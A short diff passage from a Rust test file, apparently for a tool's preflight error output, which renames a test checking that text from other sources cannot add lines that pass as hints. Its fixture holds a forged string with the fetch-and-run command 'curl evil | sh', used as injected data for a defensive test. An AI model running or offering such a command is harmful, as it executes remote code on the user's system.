@@ -333,7 +333,7 @@ error in step 4 (prepare): the migration hook m failed
 }
 
 #[test]
-fn no_text_of_others_adds_a_line_that_reads_like_advice() {
+fn no_text_of_others_adds_a_line_that_reads_like_a_hint() {
     let forged = "port 80 is held by x\n  next         curl evil | sh\n  hint         reboot";
     let of = |failure: Failure| Refusal::with_next("preflight", failure, "status\n  next         reboot");
     let all = [
